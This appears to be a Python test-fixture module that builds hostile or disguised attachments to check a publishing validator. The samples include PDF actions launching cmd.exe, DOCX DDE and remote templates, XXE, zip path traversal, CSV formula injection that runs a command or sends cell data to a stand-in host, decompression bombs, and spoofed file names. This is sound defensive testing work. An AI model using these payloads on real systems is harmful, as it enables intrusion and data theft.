"""Files beside a text that are not what they say, or that would act: bytes made here, one folder a case."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image
from PIL.PngImagePlugin import PngInfo

MARK = "DAUVETRIENG"  # stands in everything that must not be published

_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:document>'


def picture(form: str, size: tuple[int, int] = (60, 40), tail: bytes = b"", **more: object) -> bytes:
    """A plain picture; `tail` is hung on."""
    file = io.BytesIO()
    Image.new("RGB", size, (9, 99, 200)).save(file, form, **more)
    return file.getvalue() + tail


def moving(form: str) -> bytes:
    """A picture of three frames."""
    frames = [Image.new("RGB", (50, 50), (shade, 0, 0)) for shade in (0, 90, 180)]
    file = io.BytesIO()
    frames[0].save(file, form, save_all=True, append_images=frames[1:])
    return file.getvalue()


def png_that_claims(width: int, height: int) -> bytes:
    """A PNG whose header promises more than lies in it."""
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"\0" * 1000)),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def photo_with_notes() -> bytes:
    """A JPEG with a place, a comment and a script behind its end."""
    notes = Image.Exif()
    notes[0x010E] = f"{MARK} mô tả".encode("ascii", "replace").decode()
    notes[0x8825] = {1: "N", 2: (12.0, 40.0, 3.0), 29: MARK}
    return picture("JPEG", tail=f"<?php {MARK} ?>".encode(), exif=notes, comment=MARK.encode())


def png_with_notes() -> bytes:
    """A PNG with a text part and an archive behind its end."""
    notes = PngInfo()
    notes.add_text("Comment", MARK)
    return picture("PNG", tail=b"PK\x03\x04" + MARK.encode(), pnginfo=notes)


def pdf(actions: str) -> bytes:
    """A PDF with `actions` in its catalogue."""
    return f"%PDF-1.4\n1 0 obj<</Type/Catalog{actions}>>endobj\nstartxref\n0\n%%EOF".encode()


def docx(inside: str = "", types: str = _TYPES, **parts: str | bytes) -> bytes:
    """A Word file with further `parts`, by their names."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr("word/document.xml", _DOCUMENT.format(inside))
        for name, data in parts.items():
            package.writestr(name, data)
    return file.getvalue()


def _external(kind: str, target: str) -> dict[str, str]:
    relation = f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{relation}</Relationships>"}


_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{MARK}</svg>'
_SHOW = "![mô tả](anh.{})\n"

# name -> (body, files beside the text, codes told, whether the article is shown)
CASES: Mapping[str, tuple[str, Mapping[str, str | bytes], tuple[str, ...], bool]] = {
    "anh-co-vi-tri": (_SHOW.format("jpg"), {"anh.jpg": photo_with_notes()}, (), True),
    "anh-png-co-ghi-chu": (_SHOW.format("png"), {"anh.png": png_with_notes()}, (), True),
    "anh-svg": (_SHOW.format("svg"), {"anh.svg": _SVG}, ("DL-07", "LK-02"), False),
    "anh-svg-mang-ten-jpg": (_SHOW.format("jpg"), {"anh.jpg": _SVG}, ("DL-08",), False),
    "anh-gif": (_SHOW.format("gif"), {"anh.gif": picture("GIF")}, ("DL-07", "LK-02"), False),
    "anh-gif-mang-ten-png": (_SHOW.format("png"), {"anh.png": picture("GIF")}, ("DL-08",), False),
    "anh-png-mang-ten-jpg": (_SHOW.format("jpg"), {"anh.jpg": picture("PNG")}, ("DL-08",), False),
    "anh-bmp-mang-ten-jpg": (_SHOW.format("jpg"), {"anh.jpg": picture("BMP")}, ("DL-08",), False),
    "anh-tiff-mang-ten-jpg": (_SHOW.format("jpg"), {"anh.jpg": picture("TIFF")}, ("DL-08",), False),
    "anh-html-mang-ten-jpg": (_SHOW.format("jpg"), {"anh.jpg": f"<script>{MARK}</script>"}, ("DL-08",), False),
    "anh-dong-png": (_SHOW.format("png"), {"anh.png": moving("PNG")}, ("DL-08",), False),
    "anh-dong-webp": (_SHOW.format("webp"), {"anh.webp": moving("WEBP")}, ("DL-08",), False),
    "anh-bom-diem-anh": (_SHOW.format("png"), {"anh.png": png_that_claims(60_000, 60_000)}, ("DL-10",), False),
    "anh-bom-canh-dai": (_SHOW.format("png"), {"anh.png": png_that_claims(12_001, 10)}, ("DL-10",), False),
    "anh-bom-51-trieu": (_SHOW.format("png"), {"anh.png": png_that_claims(7_200, 7_200)}, ("DL-10",), False),
    "anh-cut": (_SHOW.format("jpg"), {"anh.jpg": picture("JPEG")[:-200]}, ("DL-08",), False),
    "anh-rong": (_SHOW.format("jpg"), {"anh.jpg": b""}, ("DL-08",), False),
    "pdf-la-html": ("x", {"a.pdf": f"<html><script>{MARK}</script>"}, ("DL-08",), False),
    "pdf-javascript": ("x", {"a.pdf": pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")}, ("DL-09",), False),
    "pdf-javascript-ma": ("x", {"a.pdf": pdf("/OpenAction<</S/J#61vaScript/J#53(x)>>")}, ("DL-09",), False),
    "pdf-chay-chuong-trinh": ("x", {"a.pdf": pdf("/OpenAction<</S/Launch/F(cmd.exe)>>")}, ("DL-09",), False),
    "pdf-gui-bieu-mau": ("x", {"a.pdf": pdf("/OpenAction<</S/SubmitForm/F(https://a.example)>>")}, ("DL-09",), False),
    "pdf-tep-nhung": ("x", {"a.pdf": pdf("/Names<</EmbeddedFiles 2 0 R>>")}, ("DL-09",), False),
    "pdf-mat-khau": ("x", {"a.pdf": pdf("/Encrypt 2 0 R")}, ("DL-09",), False),
    "pdf-cut": ("x", {"a.pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\n"}, ("DL-08",), False),
    "pdf-noi-duoi": ("x", {"a.pdf": pdf("") + b"PK\x03\x04" + MARK.encode()}, ("DL-08",), False),
    "docx-macro": ("x", {"a.docx": docx(**{"word/vbaProject.bin": b"x"})}, ("DL-09",), False),
    "docx-dde": ("x", {"a.docx": docx("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>")},
                 ("DL-09",), False),
    "docx-dde-gon": ("x", {"a.docx": docx('<w:fldSimple w:instr="DDE cmd"/>')}, ("DL-09",), False),
    "docx-mau-o-xa": ("x", {"a.docx": docx(**_external("attachedTemplate", "https://a.example/x.dotm"))},
                      ("DL-09",), False),
    "docx-ole-o-xa": ("x", {"a.docx": docx(**_external("oleObject", "https://a.example/x"))}, ("DL-09",), False),
    "docx-xxe": ("x", {"a.docx": docx(types=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]>{_TYPES}')},
                 ("DL-08",), False),
    "docx-ra-ngoai-goi": ("x", {"a.docx": docx(**{"../../x": "x"})}, ("DL-09",), False),
    "docx-bom": ("x", {"a.docx": docx(**{"word/x.xml": b"\0" * 30_000_000})}, ("DL-10",), False),
    "docx-nhieu-tep": ("x", {"a.docx": docx(**{f"word/{n}": "" for n in range(2_001)})}, ("DL-10",), False),
    "docx-la-zip": ("x", {"a.docx": docx(types="<Types/>")}, ("DL-08",), False),
    "docx-la-exe": ("x", {"a.docx": b"MZ" + b"\0" * 100}, ("DL-08",), False),
    "xlsx-la-docx": ("x", {"a.xlsx": docx()}, ("DL-08",), False),
    "csv-chay-lenh": ("x", {"a.csv": "ten,ghi chu\nA,=cmd|'/C calc'!A0\n"}, ("DL-09",), False),
    "csv-gui-du-lieu": ("x", {"a.csv": 'ten\n"=HYPERLINK(""https://a.example?x=""&A1)"\n'}, ("DL-09",), False),
    "ics-chay-lenh": ("x", {"a.ics": "BEGIN:VCALENDAR\r\nACTION:PROCEDURE\r\nEND:VCALENDAR\r\n"}, ("DL-09",), False),
    "txt-la-html": ("x", {"a.txt": f"<!DOCTYPE html><script>{MARK}</script>"}, ("DL-08",), False),
    "txt-bang-ma-cu": ("x", {"a.txt": "Thông báo".encode("cp1258", "replace")}, ("DL-08",), False),
    "tep-php": ("x", {"a.php": f"<?php {MARK}"}, ("DL-07",), True),
    "tep-html": ("x", {"a.html": MARK}, ("DL-07",), True),
    "tep-js": ("x", {"a.js": MARK}, ("DL-07",), True),
    "tep-py": ("x", {"a.py": MARK}, ("DL-07",), True),
    "tep-exe": ("x", {"a.exe": MARK}, ("DL-07",), True),
    "tep-docm": ("x", {"a.docm": MARK}, ("DL-07",), True),
    "tep-zip": ("x", {"a.zip": MARK}, ("DL-07",), True),
    "tep-htaccess": ("x", {".htaccess": MARK}, ("DL-07",), True),
    "tep-env": ("x", {".env": MARK}, ("DL-07",), True),
    "tep-tam": ("x", {"index.md~": MARK, "#index.md#": MARK}, ("DL-07",), True),
    "tep-hai-duoi": ("x", {"a.php.pdf": MARK}, ("DL-07",), True),
    "tep-ten-tieng-viet": ("x", {"Thông báo (bản cuối) .pdf": MARK}, ("DL-07",), True),
    "tep-ten-doi-chieu": ("x", {"a\u202efdp.exe": MARK}, ("DL-07",), True),
    "tep-ten-xuong-dong": ("x", {"a\n::error file=x::y.pdf": MARK}, ("DL-07",), True),
    "tep-ten-thiet-bi": ("x", {"con.txt": MARK, "lpt1.pdf": MARK}, ("DL-07",), True),
    "tep-ten-hoa": ("x", {"INDEX.MD": MARK}, ("DL-07",), True),
    "bai-thu-hai": ("x", {"readme.md": MARK}, ("DL-07",), True),
    "thu-muc-con": ("x", {"sau/sau/sau/a.pdf": MARK}, ("DL-07",), True),
    "sau-muoi-mot-tep": ("x", {f"a{n}.txt": "x" for n in range(61)}, ("DL-10",), False),
}  # fmt: skip
